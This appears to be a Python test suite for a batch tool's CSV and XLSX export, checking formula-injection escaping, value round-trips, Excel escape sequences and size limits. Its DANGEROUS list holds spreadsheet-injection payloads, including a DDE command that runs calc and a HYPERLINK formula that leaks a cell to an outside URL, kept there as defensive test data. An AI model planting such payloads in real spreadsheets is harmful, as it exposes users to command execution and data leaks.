"""Cells: the same values come back, no text becomes a formula, and what .xlsx cannot hold is said."""

from __future__ import annotations

import builtins
import csv
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dify_batch.errors import UsageError
from dify_batch.reports import tables
from dify_batch.reports.export import export
from dify_batch.reports.tables import MAX_CELL, csv_cell, units
from dify_batch.reports.workbook import escaped
from tests.support.result_tables import JOURNAL, put, read_csv, read_xlsx, result, table, undo

# ---------------------------------------------------------------- formulas


DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    '=HYPERLINK("http://example.com/?"&A1)',
    "+49 30 1234",
]
HARMLESS = ["", "a=b", "1-2", "-5", "-0.5e3", "'quoted'", "''", "x@example.com", " =1", "#N/A", "ü"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_would_be_a_formula_is_made_safe(tmp_path: Path, text: str) -> None:
    (cells,) = table(tmp_path, result("a", {"q": text}, {text: text}))
    assert cells["q"] == "'" + text
    assert cells["'" + text] == "'" + text
    assert undo(cells["q"]) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(tmp_path: Path, text: str) -> None:
    (cells,) = table(tmp_path, result("a", {"q": text}, {}))
    assert cells["q"] == text


@pytest.mark.parametrize("number", [-5, 0, 12, -1.25, 1e300, 3.0])
def test_numbers_stay_numbers(tmp_path: Path, number: float) -> None:
    (cells,) = table(tmp_path, result("a", {"q": number}, {}))
    assert not cells["q"].startswith("'")
    assert float(cells["q"]) == number


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS])
def test_a_text_in_xlsx_is_a_text(tmp_path: Path, text: str) -> None:
    output = put(tmp_path, [result("a", {"q": text}, {})])
    export(output, tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cell = book.active["D2"]  # type: ignore[index]
    assert cell.data_type in ("s", "inlineStr")
    assert (cell.value or "") == text.replace("\r", "_x000D_")  # which Excel reads as \r, and openpyxl leaves
    book.close()


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)
_VALUES = st.dictionaries(st.text(alphabet=st.characters(codec="utf-8"), max_size=8), _JSON, max_size=4)


def comparable(value: Any) -> str:
    """What a cell of the value must come back as, once made unsafe again."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    return json.dumps(value, ensure_ascii=False)


@settings(max_examples=150, deadline=None)
@given(rows=st.lists(st.tuples(_VALUES, _VALUES), min_size=1, max_size=4))
def test_the_same_values_come_back(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[dict[str, Any], dict[str, Any]]]
) -> None:
    folder = tmp_path_factory.mktemp("round")
    records = [result(f"r{n}", inputs | {"id": f"r{n}"}, outputs) for n, (inputs, outputs) in enumerate(rows)]
    output = put(folder, records)
    report = export(output, folder / "t.csv")
    with (folder / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *lines = csv.reader(file, strict=True)
    assert [undo(name) for name in header] == list(report.columns)
    assert len(set(report.columns)) == len(report.columns)
    inputs = list(dict.fromkeys(name for row in rows for name in row[0] if name != "id"))
    outputs = list(dict.fromkeys(name for row in rows for name in row[1]))
    assert len(lines) == len(rows)
    for line, record in zip(lines, records, strict=True):
        wanted = [record["id"], "success", ""]
        wanted += [comparable(record["inputs"].get(name)) for name in inputs]
        wanted += [comparable(record["outputs"].get(name)) for name in outputs]
        assert [undo(cell) for cell in line[: len(wanted)]] == wanted


@given(st.text())
def test_making_safe_can_be_undone_and_leaves_no_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert undo(cell) == text
    assert cell[:1] not in ("=", "+", "@", "\t", "\r")
    if cell.startswith("-"):
        float(cell)


# ---------------------------------------------------------------- xlsx


def test_xlsx_has_the_same_table_with_types(tmp_path: Path) -> None:
    output = put(
        tmp_path, [result("a", {"q": "0012"}, {"n": 5, "f": 0.5, "yes": True, "deep": [1], "none": None})], JOURNAL
    )
    export(output, tmp_path / "t.xlsx")
    header, first, failed, _ = read_xlsx(tmp_path / "t.xlsx")
    cells = dict(zip(header, first, strict=True))
    assert (cells["q"], cells["n"], cells["f"], cells["yes"], cells["deep"]) == ("0012", 5, 0.5, True, "[1]")
    assert cells["none"] is None
    assert failed[:3] == ["f", "failed", "run_failed: =boom()"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("_x000D_", "_x005F_x000D_"),
        ("a_x0041_b", "a_x005F_x0041_b"),
        ("_x0041_x0042_", "_x005F_x0041_x005F_x0042_"),
        ("_x005F_", "_x005F_x005F_"),
        ("_xG041_ _x41_", "_xG041_ _x41_"),
        ("a\r\nb\rc", "a_x000D_\nb_x000D_c"),
        ("<r><t>bold</t></r>", "_x003C_r><t>bold</t></r>"),
    ],
)
def test_what_excel_would_read_as_an_escape_stays_what_it_is(tmp_path: Path, text: str, written: str) -> None:
    output = put(tmp_path, [result("a", {text: text}, {})])
    export(output, tmp_path / "t.xlsx")
    header, cells = read_xlsx(tmp_path / "t.xlsx")
    assert (header[3], cells[3]) == (written, written)
    assert excel_reads(written) == text


def excel_reads(text: str) -> str:
    """As ECMA-376 has it (22.9.2.19)."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), text)


@given(st.text(st.sampled_from("_x0041DFfrR\r\n<>/")))
def test_excel_reads_every_text_as_it_is(text: str) -> None:
    assert excel_reads(escaped(text)) == text


def test_a_number_that_excel_would_round_is_a_text(tmp_path: Path) -> None:
    output = put(tmp_path, [result("a", {}, {"n": 12345678901234567890})])
    export(output, tmp_path / "t.xlsx")
    assert read_xlsx(tmp_path / "t.xlsx")[1][3] == "12345678901234567890"


def test_what_xlsx_cannot_hold_is_said(tmp_path: Path) -> None:
    long = "😀" * MAX_CELL
    output = put(tmp_path, [result("a", {}, {"x": "a\x00b\x0b\ud800"}), result("b", {}, {"x": long})])
    report = export(output, tmp_path / "t.xlsx")
    _, first, second = read_xlsx(tmp_path / "t.xlsx")
    assert first[3] == "a\ufffdb\ufffd\ufffd"
    assert units(second[3]) <= MAX_CELL
    assert second[3].startswith("😀😀")
    assert second[3].endswith(f"[cut: {2 * MAX_CELL:,} characters; all of them: line 2 of {output}]")
    assert len(report.notes) == 2
    assert f"the first in line 2 of {output}" in report.notes[0]
    # A .csv has it whole, and says that Excel will not show it.
    report = export(output, tmp_path / "t.csv")
    assert read_csv(tmp_path / "t.csv")[1]["x"] == long
    assert "1 cells have more than 32,767 characters" in report.notes[0]


@pytest.mark.parametrize("length", [MAX_CELL, MAX_CELL + 1])
def test_the_longest_cell(tmp_path: Path, length: int) -> None:
    output = put(tmp_path, [result("a", {}, {"x": "x" * length})])
    notes = export(output, tmp_path / "t.xlsx").notes
    text = read_xlsx(tmp_path / "t.xlsx")[1][3]
    assert len(text) == MAX_CELL
    assert (text == "x" * MAX_CELL) == (notes == ()) == (length == MAX_CELL)


def test_too_many_rows_for_xlsx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MAX_ROWS", 3)
    output = put(tmp_path, [result(name, {}, {"x": 1}) for name in "ab"])
    assert export(output, tmp_path / "t.xlsx").rows == 2
    before = (tmp_path / "t.xlsx").read_bytes()
    output = put(tmp_path, [result(name, {}, {"x": 1}) for name in "abc"])
    with pytest.raises(UsageError, match="more rows than") as error:
        export(output, tmp_path / "t.xlsx")
    assert "table.csv" in str(error.value.hint)
    assert (tmp_path / "t.xlsx").read_bytes() == before
    assert [path.name for path in tmp_path.iterdir() if path.name.endswith(".new")] == []
    assert "Excel opens the first 3" in export(output, tmp_path / "t.csv").notes[0]


def test_too_many_columns_for_xlsx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MAX_COLUMNS", 10)
    output = put(tmp_path, [result("a", {"q": 1}, {"x": 1})])
    with pytest.raises(UsageError, match="13 columns"):
        export(output, tmp_path / "t.xlsx")


def test_without_xlsxwriter(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *rest: Any) -> Any:
        if name.split(".")[0] == "xlsxwriter":
            raise ImportError(name)
        return real(name, *rest)

    monkeypatch.setattr(builtins, "__import__", without)
    output = put(tmp_path, [result("a", {}, {})])
    with pytest.raises(UsageError) as error:
        export(output, tmp_path / "t.xlsx")
    assert "pip install 'dify-batch[xlsx]'" in str(error.value.hint)
    assert export(output, tmp_path / "t.csv").rows == 1
